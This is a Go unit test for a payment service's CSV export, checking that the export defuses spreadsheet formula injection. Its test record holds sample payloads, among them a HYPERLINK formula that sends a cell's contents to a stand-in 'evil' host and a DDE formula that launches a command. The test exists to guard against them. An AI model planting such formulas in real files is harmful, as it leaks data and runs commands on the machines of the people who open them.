package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/coolpay/coolpay/store"
)

// TestCSVRowNeutralisesFormulas: text a customer, the API or a callback
// wrote must not run as a formula when finance opens the export.
func TestCSVRowNeutralisesFormulas(t *testing.T) {
	r := store.Record{ID: 7, Type: store.TypePayin, State: store.StateSuccess, Amount: "1500", Currency: "XAF",
		CustomerName: `=HYPERLINK("http://evil/?"&A1,"Click")`, Reason: "+cmd|' /C calc'!A0", CustomerEmail: "@SUM(1)",
		Message: "-2+3", OperatorRef: "\tx", TransactionRef: "\r=1", AppRef: "cp-20260314-ab", Created: time.Unix(0, 0)}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(CSVHeader())
	w.Write(CSVRow(&r))
	w.Flush()
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV does not read back: %v", err)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts with %q: a spreadsheet runs it", CSVHeader()[i], cell[0])
		}
	}
	if got := rows[1][9]; got != `'=HYPERLINK("http://evil/?"&A1,"Click")` {
		t.Fatalf("customer_name %q: the text must stay whole, only made inert", got)
	}
	if rows[1][14] != "cp-20260314-ab" || rows[1][5] != "1500" {
		t.Fatalf("plain cells changed: %v", rows[1])
	}
}
